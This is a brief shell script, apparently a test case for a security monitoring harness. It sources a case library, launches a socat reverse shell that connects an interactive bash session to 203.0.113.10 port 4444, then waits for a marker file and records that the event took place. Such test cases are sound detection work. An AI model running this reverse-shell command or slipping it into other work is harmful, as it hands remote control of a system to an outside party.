#!/bin/sh
. /opt/case/case.sh

socat exec:'bash -i',pty,stderr,setsid,sigint,sane tcp:203.0.113.10:4444 &
wait_for /tmp/reached
took_place
